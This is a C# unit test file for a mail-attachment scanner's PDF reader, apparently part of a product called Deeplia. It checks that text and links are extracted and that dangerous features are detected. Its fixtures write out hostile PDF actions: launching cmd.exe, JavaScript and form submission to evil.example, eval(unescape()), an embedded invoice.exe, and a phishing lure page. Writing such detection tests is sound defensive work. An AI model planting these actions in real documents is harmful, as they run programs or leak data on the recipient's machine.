using System.Text;
using Deeplia.Mail.Attachments.Files;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Mail.Attachments.Pdf;

public sealed class PdfFileTests
{
    private static readonly string[] Letter = ["Dear Camille,", "the minutes of Tuesday (room 4)."];

    [Fact]
    public void The_words_of_a_page_are_read() => Assert.Equal(
        "Dear Camille,\nthe minutes of Tuesday (room 4).", Assert.Single(Look.At("a.pdf", PdfMaker.Page(Letter)).Texts).Text.Trim());

    [Fact]
    public void Words_are_read_through_the_table_of_the_font()
    {
        var pdf = new PdfMaker()
            .Add("<< /Type /Catalog /Pages 2 0 R >>").Add("<< /Type /Pages /Kids [3 0 R] /Resources << /Font << /F1 5 0 R >> >> >>")
            .Add("<< /Type /Page /Parent 2 0 R /Contents [4 0 R] >>")
            .AddStream("", "BT /F1 12 Tf [<00010002> -300 <00030004>] TJ ET"u8.ToArray())
            .Add("<< /Type /Font /Subtype /Type0 /ToUnicode 6 0 R >>")
            .AddStream("", "2 beginbfchar <0001> <0050> <0002> <0061> endbfchar 1 beginbfrange <0003> <0004> <0079> endbfrange"u8.ToArray()).ToArray();
        Assert.Equal("Pa yz", Assert.Single(Look.At("a.pdf", pdf).Texts).Text.Trim());
    }

    [Theory]
    [InlineData("/URI")]
    [InlineData("/#55R#49")]
    public void Links_are_read(string name)
    {
        var link = PdfMaker.Link("https://pay.example/1").Replace("/URI (", name + " (", StringComparison.Ordinal);
        Assert.Equal("https://pay.example/1", Assert.Single(Look.At("a.pdf", PdfMaker.Page(Letter, link)).Links).Url);
    }

    [Fact]
    public void Objects_packed_in_streams_are_read()
    {
        var pdf = PdfMaker.Of(Letter, "9 0 R").AddPacked((9, PdfMaker.Link("https://pay.example/1"))).ToArray();
        Assert.Equal("https://pay.example/1", Assert.Single(Look.At("a.pdf", pdf).Links).Url);
    }

    [Fact]
    public void A_program_to_be_started_is_named() => Assert.Equal("cmd.exe", Look.First(
        "a.pdf", PdfMaker.Page(Letter, catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), FileSign.PdfLaunch).Detail);

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>")]
    [InlineData("/OpenAction << /S /URI /URI (https://evil.example) >>")]
    [InlineData("/OpenAction 5 0 R", "<< /S /JavaScript /JS (eval\\(unescape\\('x'\\)\\)) >>")]
    [InlineData("/AcroForm 5 0 R", "<< /A << /S /SubmitForm /F (https://evil.example/f) >> >>")]
    public void A_document_that_acts_when_opened_is_seen(string catalog, params string[] more) =>
        Assert.Contains(FileSign.PdfAction, Look.Signs("a.pdf", PdfMaker.Page(Letter, "", catalog, more)));

    [Theory]
    [InlineData("/OpenAction [3 0 R /Fit]")]
    [InlineData("/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 0 1] >>")]
    [InlineData("/OpenAction << /S /JavaScript /JS (this.print\\(true\\)) >>")]
    [InlineData("/AcroForm << /Fields [] >> /AA << /WC << /S /JavaScript /JS (AFNumber_Format\\(2\\)) >> >>")]
    [InlineData("/Names << /EmbeddedFiles 5 0 R >>", "<< /Type /Filespec /F (factur-x.xml) /EF << /F 6 0 R >> >>", "<< /Type /EmbeddedFile >>")]
    public void An_honest_document_has_no_signs(string catalog, params string[] more) =>
        Assert.Empty(Look.Signs("a.pdf", PdfMaker.Page(Letter, "", catalog, more)));

    [Fact]
    public void A_program_inside_is_named()
    {
        var pdf = PdfMaker.Of(Letter, "", "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>").AddStream("/Type /EmbeddedFile", FileMaker.Program)
            .Add("<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>").ToArray();
        Assert.Equal("invoice.exe", Look.First("a.pdf", pdf, FileSign.EmbeddedProgram).Detail);
    }

    [Fact]
    public void A_page_of_few_words_and_one_big_link_is_a_lure() => Assert.Equal("evil.example", Look.First(
        "a.pdf", PdfMaker.Page(["This document is protected.", "Open"], PdfMaker.Link("https://evil.example/v")), FileSign.PdfLure).Detail);

    [Theory]
    [InlineData("100 300 160 312")]
    [InlineData("0 0 0 0")]
    public void A_page_with_a_small_link_is_not(string box) =>
        Assert.Empty(Look.Signs("a.pdf", PdfMaker.Page(Letter, PdfMaker.Link("https://shop.example", box))));

    [Fact]
    public void A_report_of_many_words_with_a_banner_is_not() => Assert.Empty(Look.Signs(
        "a.pdf", PdfMaker.Page([.. Enumerable.Range(0, 30).Select(i => $"Line {i} of a long report on the roof.")], PdfMaker.Link("https://shop.example"))));

    [Fact]
    public void A_locked_document_is_named()
    {
        var pdf = PdfMaker.Of(Letter).ToArray();
        var text = Encoding.Latin1.GetString(pdf).Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard >>", StringComparison.Ordinal);
        Assert.Equal([FileSign.Locked], Look.Signs("a.pdf", Encoding.Latin1.GetBytes(text)));
    }
}
